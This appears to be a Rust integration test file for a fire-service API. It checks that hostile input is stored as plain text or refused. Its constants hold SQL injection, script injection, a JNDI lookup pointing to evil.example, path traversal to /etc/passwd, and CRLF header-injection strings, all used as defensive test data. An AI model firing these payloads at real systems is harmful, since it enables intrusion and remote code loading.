//! Names and payloads that would be commands elsewhere: kept as they are, or refused, and never run.

use firemain_domain::people::Role;
use serde_json::json;

use crate::bench::hydrant;
use crate::people::{PASSWORD, city, key};

const EVIL: [&str; 7] = [
    "x'; DROP TABLE user; --",
    "x\" OR \"1\"=\"1",
    "x,kind=tank pressure_kpa=0 1",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}} %s %n",
    "../../etc/passwd",
];
const BREAKING: [&str; 4] = ["x\ny", "x\r\nSet-Cookie: a=b", "x\u{1b}[2Jy", "x\u{0}y"];

#[tokio::test(flavor = "multi_thread")]
async fn what_looks_like_a_command_is_kept_as_text() {
    let bench = city().await;
    let an = bench.log_in("an").await;
    for (n, evil) in EVIL.iter().enumerate() {
        let code = format!("TR-{n}");
        let path = format!("/api/v1/sources/{code}");
        let mut source = hydrant(&code, 0.0);
        source["name"] = json!(evil);
        source["unit"] = json!(evil);
        let put = bench.ask_as(&an, "PUT", &path, Some(source)).await;
        assert_eq!(put.status, 201, "{evil}: {}", put.text);
        let read = bench.ask_as(&an, "GET", &path, None).await;
        assert_eq!(read.json["name"], *evil);
        let incident = json!({ "name": evil, "position": { "lat": 21.03, "lon": 105.85 } });
        let opened = bench
            .ask_as(&an, "POST", "/api/v1/incidents", Some(incident))
            .await;
        assert_eq!(opened.json["name"], *evil, "{}", opened.text);
        for path in [
            "/api/v1/sources",
            "/api/v1/devices",
            "/api/v1/changes",
            "/api/v1/sessions",
        ] {
            let url =
                reqwest::Url::parse_with_params(&format!("{}{path}", bench.url), [("after", evil)]);
            let request = bench.client.get(url.unwrap()).header("cookie", &an.cookie);
            bench
                .send(request)
                .await
                .is_problem(400, "invalid-parameter");
        }
        let login = bench.try_log_in(evil, evil).await;
        assert_eq!(login.status, 401, "{evil}: {}", login.text);
        let user = format!("/api/v1/users/{}", percent(evil));
        let made = bench
            .ask_as(&an, "PUT", &user, Some(json!({ "role": "administrator" })))
            .await;
        assert_eq!(made.status, 400, "{evil}: {}", made.text);
        let with = key(&*bench.stores.register, Role::Viewer, &[], &[evil]);
        assert_eq!(
            bench
                .ask_with(&with, "GET", "/api/v1/flags", None)
                .await
                .status,
            200
        );
        bench
            .ask_with(evil, "GET", "/api/v1/flags", None)
            .await
            .is_problem(401, "unauthenticated");
    }
    let cookie = bench
        .request("GET", "/api/v1/flags")
        .header("cookie", "firemain=' OR 1=1 --");
    bench.send(cookie).await.is_problem(401, "unauthenticated");
    assert_eq!(
        bench.try_log_in("an", PASSWORD).await.status,
        200,
        "everything is still there"
    );
    let metrics = bench.get("/metrics").await.text;
    assert!(!metrics.contains("DROP TABLE"), "{metrics}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_would_break_a_line_is_refused() {
    let bench = city().await;
    let an = bench.log_in("an").await;
    for breaking in BREAKING {
        let mut source = hydrant("TR-1", 0.0);
        source["name"] = json!(breaking);
        let put = bench
            .ask_as(&an, "PUT", "/api/v1/sources/TR-1", Some(source))
            .await;
        assert_eq!(put.status, 422, "{breaking:?}: {}", put.text);
        let mut source = hydrant("TR-1", 0.0);
        source["device"] = json!(breaking);
        let put = bench
            .ask_as(&an, "PUT", "/api/v1/sources/TR-1", Some(source))
            .await;
        assert_eq!(put.status, 422, "{breaking:?}: {}", put.text);
        let key = json!({ "name": breaking });
        bench
            .ask_as(&an, "POST", "/api/v1/keys", Some(key))
            .await
            .is_problem(422, "invalid-body");
        let user = json!({ "role": "crew", "display_name": breaking });
        bench
            .ask_as(&an, "PUT", "/api/v1/users/hoa", Some(user))
            .await
            .is_problem(422, "invalid-body");
        let name = format!("/api/v1/users/{}", percent(breaking));
        let made = bench
            .ask_as(&an, "PUT", &name, Some(json!({ "role": "crew" })))
            .await;
        made.is_problem(400, "invalid-parameter");
        let device = format!("/api/v1/devices/{}/credentials", percent(breaking));
        let made = bench.ask_as(&an, "POST", &device, None).await;
        made.is_problem(400, "invalid-parameter");
        let login = bench.try_log_in(breaking, "whatever it is").await;
        assert_eq!(login.status, 401, "{}", login.text);
        assert!(login.headers.get("a").is_none() && !login.headers.contains_key("set-cookie"));
    }
}

/// Every byte of it as a path takes it.
#[expect(clippy::format_collect, reason = "a few bytes, seldom")]
fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}
